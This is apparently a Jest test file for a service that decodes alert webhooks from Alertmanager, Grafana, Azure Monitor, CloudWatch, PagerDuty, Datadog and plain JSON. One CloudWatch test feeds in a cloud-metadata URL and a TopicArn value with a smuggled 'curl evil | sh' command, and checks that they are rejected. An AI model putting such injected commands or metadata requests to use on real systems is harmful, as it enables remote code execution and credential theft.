import { describe, expect, test } from '@jest/globals';
import { decodeBody, detectAlertShape } from '../../../src/alerts/ingest/decodeBody';
import { checkAlert, isRefusal, webhookTimes } from '../../../src/alerts/ingest/checkAlert';
import { LocalTime } from '../../../src/alerts/ingest/localTime';
import type { Refusal } from '../../../src/alerts/ingest/candidate';
import type { Alert } from '../../../src/contracts';

const arrivedAt = '2026-10-05T12:00:00.000000Z';
const context = {
  arrivedAt,
  local: new LocalTime('UTC'),
  ...webhookTimes(arrivedAt, 60),
  happensNow: true,
};

interface Decoding {
  readonly shape: string;
  readonly alerts: readonly Alert[];
  readonly refused: readonly Refusal[];
  readonly ignored: readonly string[];
  readonly notes: readonly string[];
}

/** What becomes of a body when nothing but its content says how it is written. */
function decoded(body: unknown, source?: string): Decoding {
  const shape = detectAlertShape(body);
  const { entries, notes } = decodeBody(shape, body, source);
  const alerts: Alert[] = [];
  const refused: Refusal[] = [];
  const ignored: string[] = [];
  for (const entry of entries) {
    if ('ignored' in entry) ignored.push(entry.ignored);
    else if ('refusal' in entry) refused.push(entry.refusal);
    else {
      const checked = checkAlert(entry.candidate, context);
      if (isRefusal(checked)) refused.push(checked);
      else alerts.push(checked.alert);
    }
  }
  return { shape, alerts, refused, ignored, notes };
}

describe('a webhook of Alertmanager', () => {
  const firing = {
    status: 'firing',
    labels: {
      alertname: 'KubePodCrashLooping',
      severity: 'warning',
      namespace: 'shop',
      pod: 'checkout-7d9f-x2x',
      job: 'kube-state-metrics',
      app: 'checkout',
    },
    annotations: {
      description: 'Pod restarts over and over.',
      summary: 'crash loop',
      runbook_url: 'https://runbooks/7',
    },
    startsAt: '2026-10-05T13:58:24.371321387+02:00',
    endsAt: '0001-01-01T00:00:00Z',
    generatorURL: 'http://prometheus/graph?g0.expr=x',
    fingerprint: '1a30ba71cca2921f',
  };
  const body = {
    version: '4',
    groupKey: '{}:{alertname="KubePodCrashLooping"}',
    truncatedAlerts: 2,
    status: 'firing',
    receiver: 'quarterdeck',
    groupLabels: { alertname: 'KubePodCrashLooping' },
    commonLabels: {},
    commonAnnotations: {},
    externalURL: 'http://alertmanager',
    alerts: [
      firing,
      {
        ...firing,
        status: 'resolved',
        endsAt: '2026-10-05T11:59:30Z',
        labels: { ...firing.labels, pod: 'checkout-7d9f-y7y' },
        fingerprint: undefined,
      },
    ],
  };

  test('is one alert for each of its alerts, under its own fingerprints', () => {
    const { shape, alerts, refused, notes } = decoded(body);
    expect([shape, refused]).toEqual(['alertmanager', []]);
    expect(alerts[0]).toMatchObject({
      source: 'alertmanager',
      name: 'KubePodCrashLooping',
      service: 'checkout',
      resource: 'checkout-7d9f-x2x',
      severity: 'warning',
      status: 'firing',
      startsAt: '2026-10-05T11:58:24.371321Z',
      endsAt: null,
      description: 'Pod restarts over and over.',
      fingerprint: '1a30ba71cca2921f',
    });
    expect(alerts[0]!.labels).toMatchObject({ namespace: 'shop', runbook_url: 'https://runbooks/7' });
    expect(alerts[1]).toMatchObject({ status: 'resolved', endsAt: '2026-10-05T11:59:30.000000Z' });
    expect(alerts[1]!.fingerprint).toMatch(/^[0-9a-f]{32}$/);
    expect(notes).toEqual([expect.stringContaining('2 alerts')]);
  });

  test('that says the same firing is over has the id of the firing', () => {
    const over = { ...firing, status: 'resolved', endsAt: '2026-10-05T11:59:30Z' };
    const [first] = decoded(body).alerts;
    expect(decoded({ ...body, alerts: [over] }).alerts[0]!.id).toBe(first!.id);
    const later = { ...firing, startsAt: '2026-10-05T11:59:50Z' };
    expect(decoded({ ...body, alerts: [later] }).alerts[0]!.id).not.toBe(first!.id);
  });

  test('with alerts that are none loses only those', () => {
    const bad = [7, { labels: [] }, { ...firing, labels: {} }, { ...firing, startsAt: 'soon' }];
    const { alerts, refused } = decoded({ ...body, alerts: [...bad, firing] });
    expect(alerts).toHaveLength(1);
    expect(refused.map(({ code }) => code)).toEqual([
      'RECORD_MALFORMED',
      'RECORD_MALFORMED',
      'NAME_MISSING',
      'TIME_INVALID',
    ]);
  });

  test('of a system that was given a name is from that system', () => {
    expect(decoded(body, 'alertmanager-eu').alerts[0]!.source).toBe('alertmanager-eu');
  });
});

test('a webhook of Grafana is read with its own words', () => {
  const { shape, alerts } = decoded({
    receiver: 'quarterdeck',
    status: 'firing',
    orgId: 1,
    alerts: [
      {
        status: 'firing',
        labels: { alertname: 'High memory usage', team: 'blue', zone: 'us-1', priority: 'P2' },
        annotations: { summary: 'Memory is high' },
        startsAt: '2026-10-05T09:51:03.157076+02:00',
        endsAt: '0001-01-01T00:00:00Z',
        values: { B: 44.239, C: 1 },
        generatorURL: 'https://grafana/alerting/1afz29v7z/edit',
        fingerprint: 'c6eadffa33fcdf37',
        silenceURL: 'https://grafana/alerting/silence/new',
        dashboardURL: '',
        panelURL: '',
      },
    ],
    groupLabels: {},
    commonLabels: { team: 'blue' },
    commonAnnotations: {},
    externalURL: 'https://grafana/',
    version: '1',
    groupKey: '{}:{}',
    truncatedAlerts: 0,
    title: '[FIRING:1]',
    state: 'alerting',
    message: '…',
  });
  expect(shape).toBe('grafana');
  expect(alerts).toMatchObject([
    {
      source: 'grafana',
      name: 'High memory usage',
      service: null,
      severity: 'high',
      startsAt: '2026-10-05T07:51:03.157076Z',
      fingerprint: 'c6eadffa33fcdf37',
      description: 'Memory is high',
      labels: { team: 'blue', zone: 'us-1', 'values.B': '44.239' },
    },
  ]);
});

describe('an alert of Azure Monitor', () => {
  const target =
    '/subscriptions/1111/resourcegroups/Shop-RG/providers/microsoft.compute/virtualmachines/web-07';
  const essentials = {
    alertId: '/subscriptions/1111/providers/Microsoft.AlertsManagement/alerts/aaaa',
    alertRule: 'CPU over 90 %',
    severity: 'Sev3',
    signalType: 'Metric',
    monitorCondition: 'Fired',
    monitoringService: 'Platform',
    alertTargetIDs: [target],
    configurationItems: ['web-07'],
    originAlertId: '1111_Shop-RG_CPU',
    firedDateTime: '2026-10-05T11:58:24.3713213Z',
    description: 'too much work',
    essentialsVersion: '1.0',
    alertContextVersion: '1.0',
  };
  const body = {
    schemaId: 'azureMonitorCommonAlertSchema',
    data: {
      essentials,
      alertContext: {
        properties: null,
        conditionType: 'SingleResourceMultipleMetricCriteria',
        condition: {
          windowSize: 'PT5M',
          allOf: [
            {
              metricName: 'Percentage CPU',
              metricNamespace: 'Microsoft.Compute/virtualMachines',
              operator: 'GreaterThan',
              threshold: '90',
              timeAggregation: 'Average',
              dimensions: [{ name: 'ResourceId', value: '3efad9dc' }],
              metricValue: 97.75,
            },
          ],
        },
      },
      customProperties: { service: 'Storefront' },
    },
  };

  test('is read from its essentials, its dimensions and its own properties', () => {
    const { shape, alerts } = decoded(body);
    expect(shape).toBe('azure-monitor');
    expect(alerts).toMatchObject([
      {
        id: essentials.alertId,
        source: 'azure-monitor',
        name: 'CPU over 90 %',
        service: 'Storefront',
        resource: 'web-07',
        severity: 'info',
        status: 'firing',
        startsAt: '2026-10-05T11:58:24.371321Z',
        endsAt: null,
        labels: {
          resource_group: 'shop-rg',
          resource_type: 'microsoft.compute/virtualmachines',
          metric: 'Percentage CPU',
          ResourceId: '3efad9dc',
        },
      },
    ]);
  });

  test('that is resolved is the same alert, over', () => {
    const resolved = {
      ...essentials,
      monitorCondition: 'Resolved',
      resolvedDateTime: '2026-10-05T11:59:00Z',
    };
    const [over] = decoded({ ...body, data: { ...body.data, essentials: resolved } }).alerts;
    const [fired] = decoded(body).alerts;
    expect(over).toMatchObject({
      id: fired!.id,
      fingerprint: fired!.fingerprint,
      status: 'resolved',
      endsAt: '2026-10-05T11:59:00.000000Z',
    });
  });

  test('without context, from a service that has none, is read too', () => {
    const bare = { schemaId: body.schemaId, data: { essentials: { ...essentials, alertTargetIDs: null } } };
    expect(decoded(bare).alerts).toMatchObject([{ name: 'CPU over 90 %', resource: 'web-07' }]);
  });
});

describe('a CloudWatch alarm', () => {
  const alarm = {
    AlarmName: 'checkout-errors',
    AlarmDescription: null,
    AWSAccountId: '123456789012',
    AlarmConfigurationUpdatedTimestamp: '2026-09-01T08:00:00.000+0000',
    NewStateValue: 'ALARM',
    NewStateReason: 'Threshold Crossed: 1 datapoint (7.0) was greater than the threshold (5.0).',
    StateChangeTime: '2026-10-05T11:58:00.123+0000',
    Region: 'EU (Frankfurt)',
    AlarmArn: 'arn:aws:cloudwatch:eu-central-1:123456789012:alarm:checkout-errors',
    OldStateValue: 'OK',
    OKActions: [],
    AlarmActions: ['arn:aws:sns:eu-central-1:123456789012:alarms'],
    InsufficientDataActions: [],
    Trigger: {
      MetricName: 'Errors',
      Namespace: 'AWS/Lambda',
      StatisticType: 'Statistic',
      Statistic: 'SUM',
      Unit: null,
      Dimensions: [{ value: 'checkout-handler', name: 'FunctionName' }],
      Period: 60,
      EvaluationPeriods: 1,
      ComparisonOperator: 'GreaterThanThreshold',
      Threshold: 5,
      TreatMissingData: 'notBreaching',
    },
  };
  const envelope = (message: unknown, type = 'Notification') => ({
    Type: type,
    MessageId: '22b80b92-fdea-4c2c-8f9d-bdfb0c7bf324',
    TopicArn: 'arn:aws:sns:eu-central-1:123456789012:alarms',
    Subject: 'ALARM: "checkout-errors" in EU (Frankfurt)',
    Message: typeof message === 'string' ? message : JSON.stringify(message),
    Timestamp: '2026-10-05T11:58:01.000Z',
    SignatureVersion: '1',
    Signature: 'EXAMPLE',
    SigningCertURL: 'https://sns.eu-central-1.amazonaws.com/SimpleNotificationService.pem',
    UnsubscribeURL: 'https://sns.eu-central-1.amazonaws.com/?Action=Unsubscribe',
  });

  test('is read from the notification, and bare when raw delivery is on', () => {
    for (const body of [envelope(alarm), alarm]) {
      const { shape, alerts } = decoded(body);
      expect(shape).toBe('cloudwatch');
      expect(alerts).toMatchObject([
        {
          source: 'cloudwatch',
          name: 'checkout-errors',
          service: 'checkout-handler',
          resource: 'checkout-handler',
          severity: 'high',
          status: 'firing',
          startsAt: '2026-10-05T11:58:00.123000Z',
          fingerprint: alarm.AlarmArn,
          description: alarm.NewStateReason,
          labels: { FunctionName: 'checkout-handler', namespace: 'AWS/Lambda', metric: 'Errors' },
        },
      ]);
    }
  });

  test('that is well again ends when its state changed', () => {
    const [over] = decoded(envelope({ ...alarm, NewStateValue: 'OK', OldStateValue: 'ALARM' })).alerts;
    expect(over).toMatchObject({ status: 'resolved', endsAt: '2026-10-05T11:58:00.123000Z' });
  });

  test('of several alarms has no trigger and is read all the same', () => {
    const { Trigger: _trigger, ...composite } = alarm;
    const body = { ...composite, AlarmRule: 'ALARM(a) OR ALARM(b)' };
    expect(decoded(envelope(body)).alerts).toMatchObject([{ name: 'checkout-errors', service: null }]);
  });

  test('whose topic asks for its confirmation is set aside, and no link is followed', () => {
    const { alerts, refused, notes } = decoded({
      ...envelope('You have chosen to subscribe to the topic.', 'SubscriptionConfirmation'),
      Token: '2336412f37',
      SubscribeURL: 'http://169.254.169.254/latest/meta-data',
    });
    expect(alerts).toEqual([]);
    expect(refused).toMatchObject([{ code: 'SUBSCRIPTION_UNCONFIRMED' }]);
    expect(refused[0]!.message).toContain(
      'aws sns confirm-subscription --topic-arn arn:aws:sns:eu-central-1',
    );
    expect(notes).toEqual([refused[0]!.message]);
    expect(decoded(envelope('bye', 'UnsubscribeConfirmation')).ignored).toHaveLength(1);
    const foul = {
      ...envelope('', 'SubscriptionConfirmation'),
      TopicArn: 'arn:aws:sns:eu:1:x; curl evil | sh',
    };
    const [{ code, message }] = decoded(foul).refused as [Refusal];
    expect(code).toBe('RECORD_MALFORMED');
    expect(message).not.toContain('curl');
  });

  test('that is no alarm but text is set aside; another sender’s alert in it is read', () => {
    expect(decoded(envelope('the build is green')).refused).toMatchObject([{ code: 'RECORD_MALFORMED' }]);
    const plain = { name: 'Down', service: 'shop', startsAt: '2026-10-05T11:00:00Z' };
    expect(decoded(envelope(plain)).alerts).toMatchObject([{ source: 'plain', name: 'Down' }]);
    const nested = envelope(envelope(alarm));
    expect(decoded(nested).refused).toMatchObject([{ code: 'RECORD_MALFORMED' }]);
  });
});

describe('an event of PagerDuty', () => {
  const data = {
    id: 'PT4KHLK',
    type: 'incident',
    self: 'https://api.pagerduty.com/incidents/PT4KHLK',
    html_url: 'https://example.pagerduty.com/incidents/PT4KHLK',
    number: 1234,
    status: 'triggered',
    incident_key: 'baf7cf21b1da41b4b0221008339ff357',
    created_at: '2026-10-05T11:50:00Z',
    title: 'The mail queue grows',
    service: { id: 'PIJ90N7', summary: 'Mail', type: 'service_reference' },
    teams: [{ id: 'PFCVPS0', summary: 'Messaging', type: 'team_reference' }],
    priority: { id: 'PSO75BM', summary: 'P1', type: 'priority_reference' },
    urgency: 'high',
    resolve_reason: null,
  };
  const event = (type: string, fields: object = {}, at = '2026-10-05T11:55:00Z') => ({
    event: {
      id: '5ac64822-4adc-4fda-ade0-410becf0de4f',
      event_type: type,
      resource_type: 'incident',
      occurred_at: at,
      agent: null,
      client: null,
      data: { ...data, ...fields },
    },
  });

  test('about an incident is the alert of the incident, in its state', () => {
    const { shape, alerts } = decoded(event('incident.triggered'));
    expect(shape).toBe('pagerduty');
    expect(alerts).toMatchObject([
      {
        id: 'pagerduty:PT4KHLK',
        source: 'pagerduty',
        name: 'The mail queue grows',
        service: 'Mail',
        severity: 'critical',
        status: 'firing',
        startsAt: '2026-10-05T11:50:00.000000Z',
        labels: { team: 'Messaging', incident_number: '1234' },
      },
    ]);
    const acknowledged = event('incident.acknowledged', { status: 'acknowledged' });
    expect(decoded(acknowledged).alerts[0]!.status).toBe('acknowledged');
    const resolved = decoded(event('incident.resolved', { status: 'resolved' })).alerts[0];
    expect(resolved).toMatchObject({ status: 'resolved', endsAt: '2026-10-05T11:55:00.000000Z' });
    expect(resolved!.id).toBe(alerts[0]!.id);
  });

  test('that reopens an incident is a firing of its own', () => {
    const [again] = decoded(event('incident.reopened')).alerts;
    expect(again).toMatchObject({
      status: 'firing',
      startsAt: '2026-10-05T11:55:00.000000Z',
      fingerprint: 'pagerduty:baf7cf21b1da41b4b0221008339ff357',
    });
    expect(again!.id).not.toBe('pagerduty:PT4KHLK');
  });

  test('about anything else is passed over', () => {
    const note = event('incident.annotated', { type: 'incident_note' });
    expect(decoded(note)).toMatchObject({ alerts: [], refused: [], ignored: [expect.any(String)] });
    const ping = { event: { event_type: 'pagey.ping', data: { type: 'ping', message: 'Hello' } } };
    expect(decoded(ping).ignored).toHaveLength(1);
  });

  test('of the Events API is read with its key and its words', () => {
    const { shape, alerts } = decoded({
      routing_key: 'secret-routing-key',
      event_action: 'trigger',
      dedup_key: 'mail/queue',
      client: 'Monitor',
      payload: {
        summary: 'The mail queue grows',
        timestamp: '2026-10-05T11:40:00.000+0000',
        source: 'mail-3',
        severity: 'error',
        component: 'postfix',
        group: 'mail',
        class: 'queue',
        custom_details: { length: 7_000, service: 'Mail' },
      },
    });
    expect(shape).toBe('pagerduty-events');
    expect(alerts).toMatchObject([
      {
        name: 'The mail queue grows',
        service: 'Mail',
        resource: 'mail-3',
        severity: 'high',
        status: 'firing',
        startsAt: '2026-10-05T11:40:00.000000Z',
        fingerprint: 'mail/queue',
      },
    ]);
    expect(JSON.stringify(alerts)).not.toContain('secret-routing-key');
    const end = { routing_key: 'x', event_action: 'resolve', dedup_key: 'mail/queue' };
    expect(decoded(end).alerts).toMatchObject([
      { fingerprint: 'mail/queue', status: 'resolved', endsAt: arrivedAt },
    ]);
  });
});

describe('a webhook of Datadog', () => {
  const standard = {
    body: '%%% disk is nearly full %%%',
    last_updated: '1791201480000',
    event_type: 'metric_alert_monitor',
    title: '[P2] [Triggered on {host:db-1,service:orders}] Disk of the database',
    date: '1791201480000',
    org: { id: '7', name: 'example' },
    id: '5123',
  };

  test('as Datadog sends it unless told otherwise is read from its title', () => {
    const { shape, alerts } = decoded(standard);
    expect(shape).toBe('datadog');
    expect(alerts).toMatchObject([
      {
        source: 'datadog',
        name: 'Disk of the database',
        service: 'orders',
        resource: 'db-1',
        severity: 'high',
        status: 'firing',
        startsAt: '2026-10-05T11:58:00.000000Z',
        description: '%%% disk is nearly full %%%',
      },
    ]);
    const over = { ...standard, title: standard.title.replace('Triggered on', 'Recovered on') };
    const [recovered] = decoded(over).alerts;
    expect(recovered).toMatchObject({ status: 'resolved', endsAt: '2026-10-05T11:58:00.000000Z' });
    expect(recovered!.fingerprint).toBe(alerts[0]!.fingerprint);
  });

  test('with variables under their names is read from them', () => {
    const own = {
      id: '5123',
      alert_id: '1234',
      alert_cycle_key: 'cycle-9',
      aggreg_key: '9bd4ac31',
      alert_title: '[Warn on {host:db-1}] Disk of the database',
      alert_transition: 'Warn',
      alert_type: 'warning',
      alert_scope: 'host:db-1,env:prod',
      date: 1_791_201_480_000,
      tags: 'service:orders,team:data,urgent',
    };
    const [warned] = decoded(own).alerts;
    expect(warned).toMatchObject({
      id: 'datadog:cycle-9',
      name: 'Disk of the database',
      service: 'orders',
      resource: 'db-1',
      severity: 'warning',
      status: 'firing',
      fingerprint: 'datadog:1234:host:db-1,env:prod',
      labels: { env: 'prod', team: 'data', urgent: '' },
    });
    const [over] = decoded({ ...own, alert_transition: 'Recovered', alert_type: 'success' }).alerts;
    expect(over).toMatchObject({ id: 'datadog:cycle-9', status: 'resolved', severity: 'unknown' });
  });
});

describe('plain JSON', () => {
  const alert = {
    name: 'Down',
    service: 'shop',
    severity: 'high',
    startsAt: '2026-10-05T11:00:00Z',
    labels: { env: 'prod', nested: { a: [1] } },
    extra: 7,
  };

  test('is one alert, a list, or a list under `alerts`', () => {
    const [expected] = decoded(alert).alerts;
    expect(expected).toMatchObject({
      source: 'plain',
      name: 'Down',
      service: 'shop',
      labels: { env: 'prod', 'nested.a': '[1]', extra: '7' },
    });
    expect(decoded([alert]).alerts).toEqual([expected]);
    expect(decoded({ alerts: [alert] }).alerts).toEqual([expected]);
    expect(decoded([]).alerts).toEqual([]);
    expect(decoded({ alerts: [] }).alerts).toEqual([]);
  });

  test('takes the names of files, of Prometheus, and tags', () => {
    const file = { alert_name: 'Down', start_time: '2026-10-05T11:00:00Z', tags: ['service:shop', 'x'] };
    expect(decoded(file).alerts).toMatchObject([{ name: 'Down', service: 'shop', labels: { x: '' } }]);
    const prometheus = [
      {
        labels: { alertname: 'Down', severity: 'critical', app: 'shop' },
        annotations: { summary: 'it is down' },
        startsAt: '2026-10-05T11:00:00Z',
      },
    ];
    expect(decoded(prometheus).alerts).toMatchObject([
      { name: 'Down', severity: 'critical', service: 'shop', description: 'it is down' },
    ]);
  });

  test('without a start is of now, with an end before its start is none', () => {
    expect(decoded({ name: 'Down' }).alerts).toMatchObject([{ startsAt: arrivedAt, status: 'firing' }]);
    const codes = (fields: object): string[] =>
      decoded({ ...alert, ...fields }).refused.map(({ code }) => code);
    expect(codes({ endsAt: '2026-10-05T10:00:00Z' })).toEqual(['END_BEFORE_START']);
    expect(codes({ startsAt: '2026-10-05T13:30:00Z' })).toEqual(['TIME_OUT_OF_RANGE']);
    expect(codes({ startsAt: { at: 7 } })).toEqual(['TIME_INVALID']);
    expect(codes({ name: ['Down'] })).toEqual(['FIELD_INVALID']);
    expect(codes({ name: '  ' })).toEqual(['NAME_MISSING']);
    expect(codes({ service: {} })).toEqual(['FIELD_INVALID']);
    expect(codes({ labels: 7 })).toEqual(['LABELS_INVALID']);
    const flapping = decoded({ ...alert, status: 'flapping' }).alerts;
    expect(flapping).toMatchObject([{ status: 'firing', labels: { status: 'flapping' } }]);
  });

  test.each([7, 'text', null, true])('that is %j is refused as a whole', (body) => {
    expect(() => detectAlertShape(body)).toThrow(expect.objectContaining({ code: 'INPUT_INVALID' }));
  });
});
